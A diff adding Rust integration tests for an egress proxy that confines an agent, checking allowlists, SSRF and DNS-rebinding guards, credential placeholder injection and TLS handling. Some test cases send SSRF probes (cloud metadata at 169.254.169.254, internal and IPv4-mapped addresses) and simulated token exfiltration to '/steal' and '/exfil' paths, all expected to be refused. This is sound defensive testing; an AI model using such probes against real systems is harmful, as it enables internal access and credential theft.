@@ -1,0 +1,509 @@
+//! The proxy through real clients against real loopback servers.
+
+mod support;
+
+use std::net::IpAddr;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use egress::{EgressPolicy, Lookup, ProxyConfig, Resolve};
+use support::*;
+
+const PH: &str = "CORDON_PLACEHOLDER_GH_TOKEN_7f3a";
+const REAL: &str = "ghp_RealSecretValue0123456789";
+
+fn creds(bound: &[&str]) -> Vec<(String, String, Vec<u8>, Vec<config::HostPattern>)> {
+    vec![(
+        "GH_TOKEN".to_string(),
+        PH.to_string(),
+        REAL.as_bytes().to_vec(),
+        bound.iter().map(|b| pat(b)).collect(),
+    )]
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn allowed_name_works_over_http_and_connect() {
+    let web = http_server().await;
+    let (tls, test_ca) = tls_server(&["secure.test"]).await;
+    let cfg = ProxyConfig {
+        resolve: names(&[("api.test", "127.0.0.1"), ("secure.test", "127.0.0.1")]),
+        allow_ranges: loopback_only(),
+        extra_roots: vec![test_ca.clone()],
+        ..ProxyConfig::default()
+    };
+    let policy = EgressPolicy::new(
+        "coder",
+        "s1",
+        vec![
+            pat(&format!("api.test:{}", web.port())),
+            pat(&format!("secure.test:{}", tls.port())),
+        ],
+    );
+    let h = start(cfg, policy).await;
+
+    let r = h
+        .client()
+        .get(format!("http://api.test:{}/hello?x=1", web.port()))
+        .header("proxy-authorization", "Basic c2VjcmV0")
+        .header("connection", "x-private")
+        .header("x-private", "hop")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let body = r.text().await.unwrap();
+    assert!(body.starts_with("GET /hello?x=1\n"), "{body}");
+    assert!(
+        body.contains(&format!("host: api.test:{}", web.port())),
+        "{body}"
+    );
+    assert!(
+        !body.contains("proxy-authorization"),
+        "Proxy-* stripped: {body}"
+    );
+    assert!(
+        !body.contains("x-private"),
+        "Connection-named header stripped: {body}"
+    );
+
+    // HTTPS without bound credentials: an opaque tunnel; the client verifies the real
+    // server's certificate (test CA) end to end.
+    let direct_trust = reqwest::Client::builder()
+        .proxy(reqwest::Proxy::all(h.proxy_url()).unwrap())
+        .add_root_certificate(reqwest::Certificate::from_der(test_ca.as_ref()).unwrap())
+        .build()
+        .unwrap();
+    let r = direct_trust
+        .get(format!("https://secure.test:{}/tunnel", tls.port()))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert!(r.text().await.unwrap().starts_with("GET /tunnel"));
+
+    // Redirects are the client's business: the proxy hands back the 3xx.
+    let r = h
+        .client()
+        .get(format!("http://api.test:{}/redirect", web.port()))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 302);
+    assert_eq!(web.count(), 2, "the redirect target was not fetched");
+
+    let audit = h.audit_text();
+    assert!(audit.contains("\"decision\":\"allow\""), "{audit}");
+    assert!(audit.contains("\"kind\":\"connect\""), "{audit}");
+    assert!(audit.contains("\"address\":\"127.0.0.1:"), "{audit}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn internal_and_unlisted_targets_are_refused_and_recorded() {
+    let web = http_server().await;
+    let p = web.port();
+    let cfg = ProxyConfig {
+        resolve: names(&[
+            ("api.test", "127.0.0.1"),
+            ("unlisted.test", "127.0.0.1"),
+            ("internal.test", "10.0.0.5"),
+            ("metadata.test", "169.254.169.254"),
+            ("mapped.test", "::ffff:127.0.0.1"),
+        ]),
+        allow_ranges: loopback_only(),
+        ..ProxyConfig::default()
+    };
+    let policy = EgressPolicy::new(
+        "coder",
+        "s1",
+        [
+            "api.test",
+            "internal.test",
+            "metadata.test",
+            "mapped.test",
+            "169.254.169.254",
+            "10.1.2.3",
+        ]
+        .iter()
+        .map(|n| pat(&format!("{n}:{p}")))
+        .chain([pat("internal.test"), pat("169.254.169.254")])
+        .collect(),
+    );
+    let h = start(cfg, policy).await;
+    let c = h.client();
+
+    let cases = [
+        (
+            format!("http://unlisted.test:{p}/"),
+            "not on the egress allowlist",
+        ),
+        (
+            format!("http://10.1.2.3:{p}/"),
+            "IP literal 10.1.2.3 refused",
+        ),
+        (
+            "http://169.254.169.254/latest/meta-data/".to_string(),
+            "IP literal 169.254.169.254",
+        ),
+        (format!("http://internal.test:{p}/"), "resolves to 10.0.0.5"),
+        ("https://internal.test/".to_string(), "resolves to 10.0.0.5"),
+        (
+            format!("http://metadata.test:{p}/"),
+            "169.254.169.254, link-local",
+        ),
+        (format!("http://mapped.test:{p}/"), "IPv4-mapped"),
+    ];
+    for (url, why) in &cases {
+        match c.get(url).send().await {
+            Ok(r) => {
+                assert_eq!(r.status(), 403, "{url}");
+                let body = r.text().await.unwrap();
+                assert!(body.contains(why), "{url}: {body}");
+            }
+            // CONNECT refusals surface as a client error carrying no body.
+            Err(e) => assert!(url.starts_with("https"), "{url}: {e}"),
+        }
+    }
+    // An IPv4-mapped literal of loopback, sent raw.
+    let resp = raw(
+        h.handle.local_addr(),
+        &format!(
+            "GET http://[::ffff:127.0.0.1]:{p}/ HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n"
+        ),
+    )
+    .await;
+    assert!(resp.starts_with("HTTP/1.1 403"), "{resp}");
+    assert!(
+        resp.contains("IP literal ::ffff:127.0.0.1 refused"),
+        "{resp}"
+    );
+    let resp = raw(
+        h.handle.local_addr(),
+        &format!(
+            "CONNECT mapped.test:{p} HTTP/1.1\r\nhost: mapped.test:{p}\r\nconnection: close\r\n\r\n"
+        ),
+    )
+    .await;
+    assert!(resp.starts_with("HTTP/1.1 403"), "{resp}");
+
+    assert_eq!(web.count(), 0, "no refused request reached the server");
+    let denies = h
+        .records()
+        .into_iter()
+        .filter(|r| r.kind == audit::EventKind::Egress && r.data["decision"] == "deny")
+        .count();
+    assert_eq!(denies, cases.len() + 2, "{}", h.audit_text());
+    assert!(h.audit_text().contains("SSRF guard"));
+
+    // The same decision without connecting, for `cordon egress test`.
+    let policy = EgressPolicy::new("coder", "s1", vec![pat("internal.test")]);
+    let v = h.proxy.check(&policy, "https://internal.test/x").await;
+    assert!(!v.allowed);
+    assert_eq!(v.addresses, vec!["10.0.0.5".parse::<IpAddr>().unwrap()]);
+    let v = h.proxy.check(&policy, "internal.test:8080").await;
+    assert!(
+        !v.allowed && v.reason.contains("not on the egress allowlist"),
+        "{v:?}"
+    );
+}
+
+/// Answers from a list, one per call, then repeats the last: a DNS rebinding double.
+struct Rebinding {
+    answers: Vec<IpAddr>,
+    calls: AtomicUsize,
+}
+
+impl Resolve for Rebinding {
+    fn lookup<'a>(&'a self, _host: &'a str, _port: u16) -> Lookup<'a> {
+        let i = self.calls.fetch_add(1, Ordering::SeqCst);
+        let ip = self.answers[i.min(self.answers.len() - 1)];
+        Box::pin(async move { Ok(vec![ip]) })
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn dns_rebinding_cannot_change_the_dialled_address() {
+    let web = http_server().await;
+    let p = web.port();
+    for (answers, expect_ok) in [
+        // Vetted answer is the server; a second lookup would give an internal address.
+        (vec!["127.0.0.1", "10.0.0.5"], true),
+        // Vetted answer is internal; a second lookup would give the reachable server.
+        (vec!["10.0.0.5", "127.0.0.1"], false),
+    ] {
+        let resolver = Arc::new(Rebinding {
+            answers: answers.iter().map(|a| a.parse().unwrap()).collect(),
+            calls: AtomicUsize::new(0),
+        });
+        let cfg = ProxyConfig {
+            resolver: resolver.clone(),
+            allow_ranges: loopback_only(),
+            ..ProxyConfig::default()
+        };
+        let h = start(
+            cfg,
+            EgressPolicy::new("a", "s", vec![pat(&format!("rebind.test:{p}"))]),
+        )
+        .await;
+        let before = web.count();
+        let r = h
+            .client()
+            .get(format!("http://rebind.test:{p}/"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(
+            resolver.calls.load(Ordering::SeqCst),
+            1,
+            "resolved exactly once"
+        );
+        if expect_ok {
+            assert_eq!(r.status(), 200);
+            assert_eq!(web.count(), before + 1);
+        } else {
+            assert_eq!(r.status(), 403);
+            assert!(r.text().await.unwrap().contains("10.0.0.5"));
+            assert_eq!(web.count(), before, "server never reached");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn placeholder_is_injected_over_plain_http_only_for_the_bound_host() {
+    let web = http_server().await;
+    let other = http_server().await;
+    let cfg = ProxyConfig {
+        resolve: names(&[("api.test", "127.0.0.1"), ("other.test", "127.0.0.1")]),
+        allow_ranges: loopback_only(),
+        ..ProxyConfig::default()
+    };
+    let api = format!("api.test:{}", web.port());
+    let policy = EgressPolicy::new(
+        "coder",
+        "s1",
+        vec![pat(&api), pat(&format!("other.test:{}", other.port()))],
+    )
+    .with_credentials(&creds(&[&api]));
+    let h = start(cfg, policy).await;
+    let c = h.client();
+
+    let r = c
+        .post(format!("http://{api}/repos"))
+        .header("authorization", format!("Bearer {PH}"))
+        .body(format!("{{\"token\":\"{PH}\"}}"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let seen = web.all_seen();
+    assert!(
+        seen.contains(&format!("authorization: Bearer {REAL}")),
+        "{seen}"
+    );
+    assert!(
+        seen.contains(&format!("{{\"token\":\"{REAL}\"}}")),
+        "{seen}"
+    );
+    assert!(!seen.contains(PH), "{seen}");
+
+    // The same placeholder to another allowed host: blocked, alerted, nothing arrives.
+    let r = c
+        .get(format!("http://other.test:{}/steal", other.port()))
+        .header("x-api-key", PH)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    assert!(r.text().await.unwrap().contains("not bound to"));
+    assert_eq!(other.count(), 0);
+
+    // The real value itself, raw in a body or base64 in a header, even to the bound host.
+    let r = c
+        .post(format!("http://{api}/exfil"))
+        .body(format!("leak={REAL}"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    assert!(
+        r.text()
+            .await
+            .unwrap()
+            .contains("real value of credential(s) GH_TOKEN")
+    );
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(REAL);
+    let r = c
+        .get(format!("http://other.test:{}/b64", other.port()))
+        .header("x-data", b64)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    assert_eq!(other.count(), 0);
+    assert_eq!(web.count(), 1, "only the legitimate request arrived");
+
+    let records = h.records();
+    let alerts: Vec<_> = records
+        .iter()
+        .filter(|r| r.kind == audit::EventKind::Alert)
+        .collect();
+    assert_eq!(alerts.len(), 3, "{}", h.audit_text());
+    assert!(
+        records
+            .iter()
+            .any(|r| r.data["credentials"] == serde_json::json!(["GH_TOKEN"])
+                && r.data["decision"] == "allow")
+    );
+    let raw_log = std::fs::read_to_string(h.log.dir().join("log.jsonl"))
+        .or_else(|_| {
+            // Whatever the file is called: search every file of the audit dir.
+            let mut all = String::new();
+            for e in std::fs::read_dir(h.log.dir()).unwrap() {
+                all.push_str(&std::fs::read_to_string(e.unwrap().path()).unwrap_or_default());
+            }
+            Ok::<_, std::io::Error>(all)
+        })
+        .unwrap();
+    assert!(
+        !raw_log.contains(REAL),
+        "the audit log never holds the value"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn placeholder_is_injected_over_https_by_terminating_only_bound_hosts() {
+    let (tls, test_ca) = tls_server(&["secure.test", "plain-tls.test"]).await;
+    let cfg = ProxyConfig {
+        resolve: names(&[
+            ("secure.test", "127.0.0.1"),
+            ("plain-tls.test", "127.0.0.1"),
+        ]),
+        allow_ranges: loopback_only(),
+        extra_roots: vec![test_ca],
+        ..ProxyConfig::default()
+    };
+    let bound = format!("secure.test:{}", tls.port());
+    let policy = EgressPolicy::new(
+        "coder",
+        "s1",
+        vec![pat(&bound), pat(&format!("plain-tls.test:{}", tls.port()))],
+    )
+    .with_credentials(&creds(&[&bound]));
+    let h = start(cfg, policy).await;
+
+    // The client trusts only the Cordon CA (plus public roots): it can talk to the
+    // bound host only because the proxy terminates TLS there.
+    let r = h
+        .client()
+        .get(format!("https://{bound}/user"))
+        .header("authorization", format!("token {PH}"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let seen = tls.all_seen();
+    assert!(
+        seen.contains(&format!("authorization: token {REAL}")),
+        "{seen}"
+    );
+    assert!(!seen.contains(PH));
+
+    // A host without bound credentials stays an opaque tunnel: the Cordon CA is not
+    // used, so a client trusting only the Cordon CA fails the real server's certificate.
+    let err = h
+        .client()
+        .get(format!("https://plain-tls.test:{}/", tls.port()))
+        .send()
+        .await;
+    assert!(err.is_err(), "tunnel must not be terminated: {err:?}");
+    assert_eq!(tls.count(), 1);
+
+    let audit = h.audit_text();
+    assert!(audit.contains("connect-terminated"), "{audit}");
+    assert!(audit.contains("\"kind\":\"https\""), "{audit}");
+    assert!(!audit.contains(REAL));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn upstream_certificate_is_verified_when_terminating() {
+    // The upstream's CA is NOT in extra_roots: the proxy must refuse to forward.
+    let (tls, _unused_ca) = tls_server(&["secure.test"]).await;
+    let cfg = ProxyConfig {
+        resolve: names(&[("secure.test", "127.0.0.1")]),
+        allow_ranges: loopback_only(),
+        ..ProxyConfig::default()
+    };
+    let bound = format!("secure.test:{}", tls.port());
+    let policy =
+        EgressPolicy::new("coder", "s1", vec![pat(&bound)]).with_credentials(&creds(&[&bound]));
+    let h = start(cfg, policy).await;
+    let r = h
+        .client()
+        .get(format!("https://{bound}/user"))
+        .header("authorization", format!("token {PH}"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 502);
+    assert!(r.text().await.unwrap().contains("TLS"));
+    assert_eq!(
+        tls.count(),
+        0,
+        "the credential never reached an unverified server"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn connection_and_byte_limits_hold() {
+    let web = http_server().await;
+    let p = web.port();
+    let cfg = ProxyConfig {
+        resolve: names(&[("api.test", "127.0.0.1")]),
+        allow_ranges: loopback_only(),
+        max_connections: 2,
+        max_bytes: 256 * 1024,
+        ..ProxyConfig::default()
+    };
+    let h = start(
+        cfg,
+        EgressPolicy::new("a", "s", vec![pat(&format!("api.test:{p}"))]),
+    )
+    .await;
+
+    // Two connections held open, the third refused.
+    let held1 = tokio::net::TcpStream::connect(h.handle.local_addr())
+        .await
+        .unwrap();
+    let held2 = tokio::net::TcpStream::connect(h.handle.local_addr())
+        .await
+        .unwrap();
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    let resp = raw(h.handle.local_addr(), "").await;
+    assert!(resp.starts_with("HTTP/1.1 503"), "{resp}");
+    assert!(resp.contains("connection limit of 2"), "{resp}");
+    drop((held1, held2));
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+
+    // A 1 MiB download exceeds the 256 KiB budget: cut off.
+    let r = h
+        .client()
+        .get(format!("http://api.test:{p}/big"))
+        .send()
+        .await;
+    let got = match r {
+        Ok(r) => r.bytes().await.map(|b| b.len()).unwrap_or(0),
+        Err(_) => 0,
+    };
+    assert!(got < 1 << 20, "download must be cut off, got {got} bytes");
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    // And the budget is spent: the next request is refused too.
+    let r = h
+        .client()
+        .get(format!("http://api.test:{p}/small"))
+        .send()
+        .await;
+    assert!(r.is_err() || r.unwrap().status() != 200);
+    let audit = h.audit_text();
+    assert!(audit.contains("connection limit of 2"), "{audit}");
+    assert!(audit.contains("byte limit of 262144 bytes"), "{audit}");
+}
